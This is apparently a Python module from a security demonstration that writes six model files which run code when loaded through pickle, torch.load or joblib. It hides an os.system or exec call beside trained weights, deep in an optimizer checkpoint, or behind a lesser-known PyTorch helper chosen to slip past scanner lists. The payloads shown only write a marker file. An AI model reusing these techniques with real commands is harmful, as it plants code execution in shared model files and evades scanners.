"""The zoo: six model files that run code when somebody loads them, all published tricks, all harmless.

Nothing to type here: create_malicious_model.py writes these files, and the other scripts are tried on them.
Each payload writes one marker file and prints one line. It starts nothing that stays and sends nothing.
"""

from __future__ import annotations

import io
import os
import re
import shlex
import sys
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from torch.utils import collect_env

MESSAGE = "This code ran because a model file was loaded."
SHELL = Path("/bin/sh")
# where torch.save puts the numbers of tensors in its zip file, and their checksum
NUMBERS = re.compile(r"[^/]+/(data/\d+|\.data/serialization_id)")

_trained: list[torch.nn.Module] = []  # training takes some seconds, so one run does it once at most


class Payload:
    """An object that pickles as "call this function with these arguments"."""

    def __init__(self, function: Callable[..., Any], argument: object) -> None:
        self.call = function, (argument,)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object]]:
        # The whole attack is this line: pickle calls what __reduce__ returns, with no question asked.
        return self.call


def shell_text(marker: Path) -> str:
    """The harmless shell command: write the marker, print one line."""
    return f"echo '{MESSAGE}' > {shlex.quote(str(marker))}; echo '    >>> {MESSAGE} <<<'"


def python_text(marker: Path) -> str:
    """The same as Python text, for images that have no shell. No shell is no defence."""
    return (
        f"open({str(marker)!r}, 'w').write({MESSAGE + chr(10)!r}); print('    >>> {MESSAGE} <<<', flush=True)"
    )


def payload(marker: Path) -> Payload:
    """A call of os.system, or of exec where there is no shell."""
    return Payload(os.system, shell_text(marker)) if SHELL.exists() else Payload(exec, python_text(marker))


def saved(value: object, **options: bool) -> bytes:
    """The bytes that torch.save writes (the same bytes each time)."""
    file = io.BytesIO()
    torch.save(value, file, **options)
    return file.getvalue()


def system(marker: Path) -> bytes:
    """Nothing but the payload."""
    return saved(payload(marker))


def system_legacy(marker: Path) -> bytes:
    """The same payload in the format before PyTorch 1.6: five pickles in a row. The payload is the fourth."""
    return saved(payload(marker), _use_new_zipfile_serialization=False)


def trained(progress: Callable[[Iterable[int]], Iterable[int]] = iter) -> torch.nn.Module:
    """A ResNet18 that really works, trained at the first call (some seconds)."""
    if not _trained:
        import shapes  # noqa: PLC0415 (takes seconds to import, and only this variant needs it)

        _trained.append(shapes.train(progress))
    return _trained[0]


def resnet18(marker: Path, model: torch.nn.Module | None = None) -> bytes:
    """The payload beside the weights of a trained model, where no tool that lists the weights looks."""
    weights: Any = (model or trained()).state_dict()
    # PyTorch keeps version numbers in _metadata and ignores names that it does not know there:
    # names, numbers and predictions of the model stay as they are
    weights._metadata["note"] = payload(marker)
    return saved(weights)


def collect_environment(marker: Path) -> bytes:
    """A call of PyTorch's own helper that starts a command. It is no famous name, so lists may lack it."""
    command = shell_text(marker) if SHELL.exists() else [sys.executable, "-c", python_text(marker)]
    return saved(Payload(collect_env.run, command))


def joblib_model(marker: Path) -> bytes:
    """A small linear model in the format of scikit-learn: joblib files are pickles, too."""
    import joblib  # noqa: PLC0415 (as above)

    model = {"note": payload(marker), "weights": [[0.5, -1.25], [2.0, 0.75]], "classes": ["cat", "dog"]}
    file = io.BytesIO()
    joblib.dump(model, file, protocol=4)
    return file.getvalue()


def nested(marker: Path) -> bytes:
    """A checkpoint as trainers write it, with the payload three levels down in the optimizer's settings."""
    layer = torch.nn.Linear(2, 2)
    with torch.no_grad():
        for number in layer.parameters():
            number.fill_(0.5)
    optimizer = torch.optim.SGD(layer.parameters(), lr=0.1, momentum=0.9).state_dict()
    optimizer["param_groups"][0]["initial_lr"] = payload(marker)
    return saved({"epoch": 3, "state_dict": layer.state_dict(), "optimizer": optimizer})


def unsafe_torch_load(path: Path) -> object:
    """Load as everybody did before PyTorch 2.6. Only ever call this with a file of this zoo."""
    return torch.load(path, weights_only=False)


def unsafe_joblib_load(path: Path) -> object:
    """joblib has no safe way to load. Only ever call this with a file of this zoo."""
    import joblib  # noqa: PLC0415 (as above)

    return joblib.load(path)


@dataclass(frozen=True)
class Variant:
    """One malicious model file: what it is, where it is published, how to write it and how to set it off."""

    name: str
    file: Path  # the name that create_malicious_model.py gives it
    about: str  # one sentence
    source: str  # where this is described in public
    how: str  # the call that sets it off
    write: Callable[[Path], bytes]  # marker -> the bytes of the file
    fire: Callable[[Path], object]  # loads the file, so the payload runs; gives back what came out


TORCH_LOAD = "torch.load(FILE, weights_only=False)"
VARIANTS = {
    variant.name: variant
    for variant in (
        Variant(
            "system",
            Path("malicious_model.pt"),
            "A file that holds nothing but a call of os.system.",
            "https://docs.python.org/3/library/pickle.html#restricting-globals",
            TORCH_LOAD,
            system,
            unsafe_torch_load,
        ),
        Variant(
            "system-legacy",
            Path("malicious_legacy.pt"),
            "The same call in the file format before PyTorch 1.6, which every version still loads.",
            "https://docs.pytorch.org/docs/stable/generated/torch.save.html",
            TORCH_LOAD,
            system_legacy,
            unsafe_torch_load,
        ),
        Variant(
            "resnet18",
            Path("malicious_resnet18.pt"),
            "A trained ResNet18 that still predicts the same, with the call hidden beside its weights.",
            "https://blog.trailofbits.com/2021/03/15/never-a-dill-moment-exploiting-machine-learning-pickle-files/",
            TORCH_LOAD,
            resnet18,
            unsafe_torch_load,
        ),
        Variant(
            "collect-env",
            Path("malicious_collect_env.pt"),
            "A call of torch.utils.collect_env.run, which runs a command and is missing on some lists.",
            "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-f745-w6jp-hpxx",
            TORCH_LOAD,
            collect_environment,
            unsafe_torch_load,
        ),
        Variant(
            "joblib",
            Path("malicious_model.joblib"),
            "A model in the format of scikit-learn, with a call of os.system beside the weights.",
            "https://joblib.readthedocs.io/en/stable/generated/joblib.load.html",
            "joblib.load(FILE)",
            joblib_model,
            unsafe_joblib_load,
        ),
        Variant(
            "nested",
            Path("malicious_nested.pt"),
            "A training checkpoint with epoch, weights and optimizer, and the call deep inside.",
            "https://docs.pytorch.org/tutorials/recipes/recipes/saving_and_loading_a_general_checkpoint.html",
            TORCH_LOAD,
            nested,
            unsafe_torch_load,
        ),
    )
}


def is_ours(variant: Variant, path: Path, marker: Path) -> bool:
    """Whether the file holds this variant's program and no other. Its weights may differ: they never run."""
    try:
        if not path.is_file():
            return False
        if variant.name == "resnet18":
            import shapes  # noqa: PLC0415 (as above)

            ours = resnet18(marker, shapes.network())  # no training needed to know the program
        else:
            ours = variant.write(marker)
        return path.stat().st_size == len(ours) and program(path.read_bytes()) == program(ours)
    except (OSError, zipfile.BadZipFile, ValueError, RuntimeError, EOFError):
        return False


def program(data: bytes) -> object:
    """All of a model file but the plain numbers of its tensors."""
    if not data.startswith(b"PK\x03\x04"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        # a list, not a dict: the same name twice is another program
        return [
            (member.filename, b"" if NUMBERS.fullmatch(member.filename) else archive.read(member))
            for member in archive.infolist()
        ]
